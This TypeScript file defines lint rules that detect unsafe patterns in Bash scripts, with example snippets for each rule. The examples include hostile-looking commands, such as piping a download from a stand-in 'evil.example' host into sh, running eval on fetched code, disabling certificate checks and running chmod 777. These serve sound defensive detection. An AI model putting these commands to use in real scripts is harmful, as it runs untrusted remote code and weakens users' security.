import type { StructuralRule } from '../../model/rule.ts';
import { END_OF_HOST, ONLY_ASKED, ONLY_SEARCHED, OWN_NETWORK, PLAIN_ADDRESS, PROBE } from './shell-requests.ts';

const SHELL = ['Bash'] as const;

/** Between single quotes `eval` itself expands it, as one word if it is quoted there. */
const ARGUMENT = '\\$(?:[1-9@*]|\\{[1-9@*])';

export const SHELL_RULES: readonly StructuralRule[] = [
  {
    id: 'sh-download-to-shell',
    languages: SHELL,
    severity: 'P2',
    blocking: true,
    title: 'Download over an unprotected connection is run',
    explanation: 'Anyone on the network path can run code here. Download with HTTPS and check the certificate.',
    rule: {
      kind: 'pipeline',
      all: [
        { regex: '^(curl|wget)\\b[\\s\\S]*\\|\\s*(sudo\\s+(-\\S+\\s+)*)?(ba|z|da)?sh\\b' },
        { regex: '\\bhttp://|\\s(--insecure|--no-check-certificate|-[fsSLgGiIv]*k[fsSLgGiIv]*)\\s' },
      ],
      not: { regex: `://(localhost|127\\.0\\.0\\.1)${END_OF_HOST}` },
    },
    examples: [
      { code: 'set -e\ncurl -fsSL http://example.org/install | sh\n', lines: [2] },
      {
        code: 'curl http://localhost.evil.example/i | sh\ncurl http://localhost:80@evil.example/i | sh\n',
        lines: [1, 2],
      },
      { code: 'curl http://localhost:8080/i | sh\ncurl "http://127.0.0.1:$PORT/i" | sh\n', lines: [] },
      { code: 'wget -qO- --no-check-certificate "$URL" | sudo bash -s -- -y\n', lines: [1] },
      { code: 'curl -fsSL https://example.org/install | sh\ncurl http://example.org/list | sha256sum\n', lines: [] },
    ],
  },
  {
    id: 'sh-tls-not-verified',
    languages: SHELL,
    severity: 'P1',
    blocking: true,
    title: 'TLS certificates are not verified',
    explanation:
      'Anyone on the network path can impersonate the server and read or change all traffic. Pass a private certificate authority with `--cacert` or `SSL_CERT_FILE`.',
    rule: {
      any: [
        {
          kind: 'command',
          all: [
            { has: { field: 'name', regex: '^curl$' } },
            { has: { kind: 'word', regex: '^(--insecure|--proxy-insecure|-[fsSLgGiIvNOajJlpq#0-9]*k[a-zA-Z]*)$' } },
            { not: { regex: OWN_NETWORK } },
            { not: { any: [ONLY_ASKED, PROBE, ONLY_SEARCHED, PLAIN_ADDRESS] } },
          ],
        },
        {
          kind: 'command',
          all: [
            { has: { field: 'name', regex: '^wget$' } },
            { has: { kind: 'word', regex: '^--no-check-certificate$' } },
            { not: { regex: OWN_NETWORK } },
            { not: { any: [ONLY_ASKED, ONLY_SEARCHED, PLAIN_ADDRESS] } },
            // Otherwise it writes a file.
            { not: { all: [{ regex: '\\s(-[a-zA-Z]*O\\s*-|--output-document[= ]-)' }, PROBE] } },
          ],
        },
        { kind: 'command', regex: '^git\\b.*\\bhttp\\.sslVerify[= ]+["\']?(false|0)' },
        {
          kind: 'variable_assignment',
          regex: '^(GIT_SSL_NO_VERIFY=["\']?(1|true)|NODE_TLS_REJECT_UNAUTHORIZED=["\']?0|PYTHONHTTPSVERIFY=["\']?0)',
        },
      ],
    },
    examples: [
      { code: 'curl -sk "$URL"\n', lines: [1] },
      { code: 'curl -k https://localhost.evil.example/health\n', lines: [1] },
      { code: 'curl -k https://localhost:8443/health\ncurl --insecure https://dockerapi/containers\n', lines: [] },
      {
        code: 'curl -sk -o /dev/null -w "%{http_code}" "$URL"\nwget --no-check-certificate --spider "$URL"\n',
        lines: [],
      },
      { code: 'curl -sk "https://$NODE_IP:6443/version"\n', lines: [] },
      {
        code: 'curl -Iks -m 5 -H "Accept: text/html" --compressed "$host" | grep -i server\ncurl -kI "$host"\n',
        lines: [],
      },
      { code: 'curl -kI -H "Authorization: Bearer $KEY" "$host"\ncurl -kI -u "$USER" "$host"\n', lines: [1, 2] },
      {
        code: 'wget --no-check-certificate -qO- "http://$mirror/dists/udeb.list" | head -n1\ncurl -k http://example.org/list\n',
        lines: [],
      },
      {
        code: 'curl -k -x http://proxy.example.org:8080 https://example.org/list\nwget --no-check-certificate "https://example.org/?from=http://a.example"\n',
        lines: [1, 2],
      },
      {
        code: 'until curl -fsk "$URL"; do sleep 1; done\nif ! curl -ks "$URL"; then exit 1; fi\ncurl -sk "$URL" > /dev/null 2>&1 && echo up\ncurl -sk "$URL" &>/dev/null\ncurl -sk "$URL" || true\nwget --no-check-certificate -qO- "$URL" | grep -q general\nwget --no-check-certificate -qO - "$URL" >/dev/null\n',
        lines: [],
      },
      {
        code: 'if curl -sk -o list.tar "$URL"; then tar xf list.tar; fi\ncurl -k -u "$USER:$KEY" "$URL" > /dev/null\ncurl -sk -o /dev/null -u "$USER:$KEY" "$URL"\ncurl -k -X POST "$URL" || true\nif wget --no-check-certificate "$URL"; then sh run; fi\nwhile read -r a; do curl -ksLo "$a" "$URL/$a"; done\nif [ "$(curl -sk "$URL")" = 1 ]; then exit; fi\ncurl -k "$URL" > list || true\n',
        lines: [1, 2, 3, 4, 5, 6, 7, 8],
      },
      { code: 'export GIT_SSL_NO_VERIFY=true\n', lines: [1] },
      { code: 'git config --global http.sslVerify false\n', lines: [1] },
      { code: 'curl -fsSL --cacert ca.pem "$URL"\ntar -k file\n', lines: [] },
    ],
  },
  {
    id: 'sh-world-writable',
    languages: SHELL,
    severity: 'P2',
    blocking: true,
    title: 'File is writable by everyone',
    explanation:
      'Every account on the machine can change the file. Grant only the permissions that are needed, such as `755` or `600`.',
    rule: {
      kind: 'command',
      all: [
        { has: { field: 'name', regex: '^chmod$' } },
        { any: [{ has: { regex: '^([0-7]?[0-7][0-7][2367]|[ug]*[ao][ugoa]*\\+[rx]*w[rwx]*)$' } }] },
      ],
    },
    examples: [
      { code: 'chmod -R 777 /srv/data\n', lines: [1] },
      { code: 'chmod a+rw file\n', lines: [1] },
      { code: 'chmod 755 run.sh\nchmod +x run.sh\nchmod u+w file\n', lines: [] },
    ],
  },
  {
    id: 'sh-eval-variable',
    languages: SHELL,
    severity: 'P1',
    blocking: true,
    title: 'eval runs an argument or a download as code',
    explanation:
      'Anyone who controls the argument or the server can run commands here. Use an array (`"${command[@]}"`) or a `case` statement.',
    rule: {
      kind: 'command',
      all: [
        { has: { field: 'name', regex: '^eval$' } },
        {
          has: {
            field: 'argument',
            any: [
              // In a command substitution, `$1` may belong to another program, such as awk.
              {
                not: { regex: '\\$\\(|`' },
                any: [
                  { regex: ARGUMENT, not: { any: [{ kind: 'raw_string' }, { kind: 'concatenation' }] } },
                  { kind: 'concatenation', has: { regex: ARGUMENT, not: { kind: 'raw_string' } } },
                ],
              },
              { regex: '\\$\\((?:curl|wget)\\b' },
            ],
          },
        },
        // Allows an assignment to the variable in which a function returns its result, whose name is an argument.
        { not: { regex: '^eval\\s+"?\\$\\{?[1-9]\\}?(\\[[^\\]"]*\\])?\\+?=' } },
        // Allows reading the variable whose name is an argument.
        { not: { regex: '\\\\\\$\\{?\\$\\{?[1-9]' } },
      ],
    },
    graveIf: 'outside',
    examples: [
      { code: 'eval "$1"\n', lines: [1] },
      {
        code: 'eval \'start --user="$USER" \'"$OPTIONS"\' "$@"\'\neval \'run "$1"\'\neval \'run \'"$@"\neval name=$1\n',
        lines: [3, 4],
      },
      { code: 'run_or_stop() {\n  eval "$1"\n}\nrun_or_stop "make all"\neval "$2"\n', lines: [2, 5], mild: [2] },
      { code: 'store() {\n  eval "$1[\\$key|${i}]=\\${values[i]}"\n}\n', lines: [] },
      { code: 'eval "sudo -u app ${2}"\n', lines: [1] },
      { code: 'eval "$(curl -fsSL "$URL")"\n', lines: [1] },
      { code: 'eval "value=\\$$1"\neval echo "\\${$1}"\n', lines: [] },
      { code: 'eval "found=( $(awk \'{ print $1 }\' list) )"\n', lines: [] },
      { code: 'eval "$(ssh-agent -s)"\n"${command[@]}"\neval "$UPDATE_COMMAND"\neval "$1=done"\n', lines: [] },
    ],
  },
  {
    id: 'sh-remove-under-variable',
    languages: SHELL,
    severity: 'P1',
    blocking: true,
    title: 'rm -r deletes from the root if the variable is empty',
    explanation: 'With an empty variable the path starts at `/`. Write `"${NAME:?}/…"`, which aborts instead.',
    rule: {
      kind: 'command',
      all: [
        { has: { field: 'name', regex: '^rm$' } },
        { has: { regex: '^-[a-zA-Z]*[rR]' } },
        {
          has: {
            regex: '^"?\\$(\\{\\w+\\}|\\w+)"?/("?\\*?|(bin|boot|etc|home|lib|opt|root|run|sbin|srv|usr|var)/?)"?$',
            not: { regex: '(?i)tmp|temp|\\$(\\{?)(HOME|PWD|[0-9])' },
          },
        },
      ],
    },
    examples: [
      { code: 'rm -rf "$BUILD_DIR"/*\n', lines: [1] },
      { code: 'rm -rf $PREFIX/bin\n', lines: [1] },
      { code: 'rm -rf "${BUILD_DIR:?}"/*\nrm -rf ./build\nrm -f "$FILE"\nrm -rf "$BUILD_DIR/logs"\n', lines: [] },
      { code: 'BUILD_DIR=/srv/build\nrm -rf "$BUILD_DIR"/*\n', lines: [] },
      { code: 'set -euo pipefail\nrm -rf "$BUILD_DIR"/*\n', lines: [] },
      { code: '[ -d "$BUILD_DIR" ] || exit 1\nrm -rf "$BUILD_DIR"/*\n', lines: [] },
      { code: 'BUILD_DIR="$1"\nrm -rf "$BUILD_DIR"/*\n', lines: [2] },
    ],
  },
  {
    id: 'sh-host-key-not-checked',
    languages: SHELL,
    severity: 'P2',
    blocking: false,
    title: 'SSH host keys are not verified',
    explanation:
      'Anyone on the network path can impersonate the server. Add the key of the server to `known_hosts`, or use at least `StrictHostKeyChecking=accept-new`.',
    rule: { kind: 'command', regex: '^(ssh|scp|sftp|rsync|git)\\b[\\s\\S]*StrictHostKeyChecking[= ]\\s*(no|off)\\b' },
    examples: [
      { code: 'ssh -o StrictHostKeyChecking=no "$HOST" uptime\n', lines: [1] },
      { code: 'ssh -o StrictHostKeyChecking=accept-new "$HOST" uptime\n', lines: [] },
    ],
  },
  {
    id: 'sh-unquoted-test',
    languages: SHELL,
    severity: 'P2',
    blocking: true,
    title: 'Test is always true if the variable is empty',
    explanation: 'An unquoted empty variable disappears, and `[ -n ]` is true. Quote the variable.',
    rule: {
      kind: 'test_command',
      regex: '^\\[\\s+-n\\s+\\$(\\w+|\\{\\w+\\})\\s+\\]$',
      has: { any: [{ pattern: '$VAR', kind: 'simple_expansion' }, { kind: 'expansion' }], stopBy: 'end' },
      // The variable of a loop over words is never empty.
      not: { inside: { kind: 'for_statement', stopBy: 'end' } },
    },
    examples: [
      { code: 'if [ -n $NAME ]; then\n  echo yes\nfi\n', lines: [1] },
      { code: 'for NAME in $NAMES; do\n  if [ -n ${NAME} ]; then\n    echo "$NAME"\n  fi\ndone\n', lines: [] },
      { code: 'if [ -n "$NAME" ]; then\n  echo yes\nfi\nif [[ -n $NAME ]]; then\n  echo yes\nfi\n', lines: [] },
    ],
  },
  {
    id: 'sh-predictable-temp',
    languages: SHELL,
    severity: 'P2',
    blocking: true,
    title: 'Temporary file name is predictable',
    explanation:
      "Another user can create a link with this name first, so that the script overwrites the link's target. Use `mktemp`.",
    rule: { kind: 'file_redirect', regex: '^&?>>?\\s*"?/tmp/\\S*(\\$\\$|\\$RANDOM)' },
    examples: [
      { code: 'sort list > /tmp/sorted.$$\n', lines: [1] },
      { code: 'file="$(mktemp)"\nsort list > "$file"\n', lines: [] },
    ],
  },
];
